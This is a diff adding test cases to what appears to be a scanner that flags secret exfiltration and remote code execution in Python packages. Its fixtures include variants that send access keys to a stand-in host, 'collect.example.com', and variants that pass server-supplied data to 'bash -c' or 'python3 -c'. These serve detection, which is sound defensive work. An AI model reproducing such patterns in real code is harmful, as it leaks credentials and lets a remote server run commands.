@@ -321,6 +321,39 @@ def test_keys_a_caller_configures_through_its_client_are_not_stolen(tmp_path: Pa
     assert exam(tmp_path, "vown", "aws.py", own) == {"thr-secret-sent": "vown/aws.py"}
 
 
+# langfuse 5.2.0 api/blob_storage_integrations/raw_client.py: the generated API client configures
+# an export bucket with the keys its caller passes, at a literal path relative to the base URL
+# of the client the user configured
+_EXPORT_CLIENT = """\
+class RawBlobStorageIntegrationsClient:
+    def __init__(self, *, client_wrapper):
+        self._client_wrapper = client_wrapper
+
+    def upsert(self, *, bucket_name, access_key_id=None, secret_access_key=None):
+        _response = self._client_wrapper.httpx_client.request(
+            "api/public/integrations/blob-storage",
+            method="PUT",
+            json={"bucketName": bucket_name, "accessKeyId": access_key_id,
+                  "secretAccessKey": secret_access_key},
+        )
+        return _response
+"""
+
+
+def test_keys_sent_to_a_relative_api_path_go_to_the_configured_server(tmp_path: Path) -> None:
+    assert exam(tmp_path, "export", "raw_client.py", _EXPORT_CLIENT) == {}
+    # a first segment that names a host is no relative path
+    hosted = _EXPORT_CLIENT.replace('"api/public/', '"collect.example.com/public/')
+    assert exam(tmp_path, "ehost", "raw_client.py", hosted) == {
+        "thr-access-secret-sent": "ehost/raw_client.py"
+    }
+    # nor is a path sent by a module function, which needs a full URL
+    module = _EXPORT_CLIENT.replace("self._client_wrapper.httpx_client.request(", "httpx.request(")
+    assert exam(tmp_path, "emod", "raw_client.py", "import httpx\n" + module) == {
+        "thr-access-secret-sent": "emod/raw_client.py"
+    }
+
+
 # simple_salesforce 1.12.10 login.py: the private key signs a JWT through a local name; the
 # signed assertion goes to Salesforce's token endpoint
 _JWT_LOGIN = """\
@@ -343,3 +376,28 @@ def test_a_key_that_signs_through_a_local_name_is_not_sent(tmp_path: Path) -> No
     # the key itself in the request body, through the same local name, is sent
     leaking = _JWT_LOGIN.replace('"assertion": assertion}', '"assertion": assertion, "k": key}')
     assert exam(tmp_path, "jwtleak", "login.py", leaking) == {"thr-secret-sent": "jwtleak/login.py"}
+
+
+# aircrack-ng 1.7's dcrack: a distributed cracking client runs aircrack-ng on the network its
+# server names (JSON from the server in the argument vector of a fixed program)
+_CRACK_CLIENT = """\
+import json
+import subprocess
+import urllib.request
+
+def crack(server):
+    work = json.loads(urllib.request.urlopen(server + "/crack").read())
+    cmd = ["aircrack-ng", "-w", "words.txt", "-b", work["net"], "-q", "capture.cap"]
+    return subprocess.Popen(cmd, stdout=subprocess.PIPE)
+"""
+
+
+def test_server_data_in_a_fixed_programs_arguments_is_not_code(tmp_path: Path) -> None:
+    assert exam(tmp_path, "dcrack", "dcrack.py", _CRACK_CLIENT) == {}
+    # the same data handed to a program that runs its arguments is code
+    for program, name in (('"bash", "-c"', "dsh"), ('"/usr/bin/python3.11", "-c"', "dpy")):
+        runs = _CRACK_CLIENT.replace('"aircrack-ng", "-w", "words.txt", "-b"', program)
+        assert exam(tmp_path, name, "dcrack.py", runs) == {"thr-decoded-exec": f"{name}/dcrack.py"}
+    # and so is a vector whose program itself comes from the server
+    served = _CRACK_CLIENT.replace('["aircrack-ng", "-w"', '[work["tool"], "-w"')
+    assert exam(tmp_path, "dtool", "dcrack.py", served) == {"thr-decoded-exec": "dtool/dcrack.py"}
